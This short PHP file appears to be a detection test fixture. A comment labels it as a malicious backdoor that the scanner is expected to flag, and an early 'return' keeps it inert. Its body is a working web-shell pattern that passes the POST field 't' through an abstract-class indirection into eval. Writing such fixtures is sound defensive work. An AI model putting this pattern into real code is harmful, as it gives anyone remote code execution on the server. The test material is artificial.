<?php return; // want: malicious backdoor php.code.request
abstract class Step { abstract function text(); function go() { eval($this->text()); } }
class First extends Step { function text() { return $_POST['t']; } }
(new First)->go();
